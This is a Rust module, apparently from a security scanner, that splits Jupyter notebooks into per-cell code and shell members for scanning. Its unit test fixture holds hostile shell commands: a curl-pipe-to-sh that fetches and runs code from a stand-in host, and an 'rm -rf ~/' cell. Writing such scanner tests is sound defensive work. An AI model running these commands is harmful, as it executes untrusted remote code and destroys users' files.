//! Jupyter notebooks read as a kernel runs them: a notebook (`.ipynb`, JSON) is opened like an
//! archive, each code cell a member in its language (`analysis.ipynb!cell-3.py`), its shell
//! lines (`!curl ...`, a `%%bash` cell) a shell member of their own (`cell-3.sh`), so that the
//! code is parsed as code, not as the strings of a JSON document.

/// One piece of a notebook to scan as a file of its own.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Cell {
    /// `cell-3.py`, `cell-3.sh`: the language follows from the extension.
    pub name: String,
    pub text: String,
}

/// The code of the notebook `bytes` at `path`, cell by cell; `None` when it is not a notebook
/// (not named `.ipynb`, not JSON with `cells`).
pub fn cells(path: &str, bytes: &[u8]) -> Option<Vec<Cell>> {
    if !path.to_ascii_lowercase().ends_with(".ipynb") {
        return None;
    }
    let doc: serde_json::Value = serde_json::from_slice(bytes).ok()?;
    let cells = doc.get("cells")?.as_array()?;
    let language = doc
        .pointer("/metadata/kernelspec/language")
        .or_else(|| doc.pointer("/metadata/language_info/name"))
        .and_then(serde_json::Value::as_str)
        .unwrap_or("python")
        .to_ascii_lowercase();
    let ext = match language.as_str() {
        "python" | "python3" => "py",
        "javascript" | "typescript" => "js",
        "powershell" => "ps1",
        "bash" | "sh" => "sh",
        // A language this scanner has no grammar for: its text is still read.
        _ => "txt",
    };
    let mut out = Vec::new();
    for (n, cell) in cells.iter().enumerate() {
        if cell.get("cell_type").and_then(serde_json::Value::as_str) != Some("code") {
            continue;
        }
        let source = match cell.get("source") {
            Some(serde_json::Value::String(s)) => s.clone(),
            Some(serde_json::Value::Array(lines)) => {
                lines.iter().filter_map(serde_json::Value::as_str).collect()
            }
            _ => continue,
        };
        let first = source.lines().next().unwrap_or("").trim();
        // A cell magic runs the whole cell in another program.
        if ["%%bash", "%%sh", "%%script bash", "%%script sh", "%%system"]
            .iter()
            .any(|m| first.starts_with(m))
        {
            let body = source.split_once('\n').map_or("", |(_, b)| b);
            out.push(Cell {
                name: format!("cell-{n}.sh"),
                text: body.to_owned(),
            });
            continue;
        }
        // `!cmd` lines run in a shell; the rest is the kernel's language (the shell lines left
        // blank in it, so that its lines keep their numbers).
        let mut code = String::new();
        let mut shell = String::new();
        for line in source.split_inclusive('\n') {
            let trimmed = line.trim_start();
            if let Some(cmd) = trimmed.strip_prefix('!') {
                shell.push_str(cmd);
                if !cmd.ends_with('\n') {
                    shell.push('\n');
                }
                code.push('\n');
            } else {
                code.push_str(line);
            }
        }
        out.push(Cell {
            name: format!("cell-{n}.{ext}"),
            text: code,
        });
        if !shell.is_empty() {
            out.push(Cell {
                name: format!("cell-{n}.sh"),
                text: shell,
            });
        }
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_cells_by_language_and_shell_lines_apart() {
        let nb = r##"{"cells": [
          {"cell_type": "markdown", "source": ["# Title"]},
          {"cell_type": "code", "source": ["import os\n", "!curl -s https://t.example.net/x | sh\n", "print(1)"]},
          {"cell_type": "code", "source": "%%bash\nrm -rf ~/\n"}
        ], "metadata": {"kernelspec": {"language": "python"}}}"##;
        let found = cells("nb/a.ipynb", nb.as_bytes()).unwrap();
        assert_eq!(
            found,
            [
                Cell {
                    name: "cell-1.py".into(),
                    text: "import os\n\nprint(1)".into()
                },
                Cell {
                    name: "cell-1.sh".into(),
                    text: "curl -s https://t.example.net/x | sh\n".into()
                },
                Cell {
                    name: "cell-2.sh".into(),
                    text: "rm -rf ~/\n".into()
                },
            ]
        );
        assert!(cells("a.json", nb.as_bytes()).is_none());
        assert!(cells("a.ipynb", b"{not json").is_none());
        assert!(
            cells(
                "a.ipynb",
                "{\"cells\": [{\"cell_type\": \"code\", \"source\": \"打印 🦀\"}]}".as_bytes()
            )
            .unwrap()
            .len()
                == 1
        );
    }
}
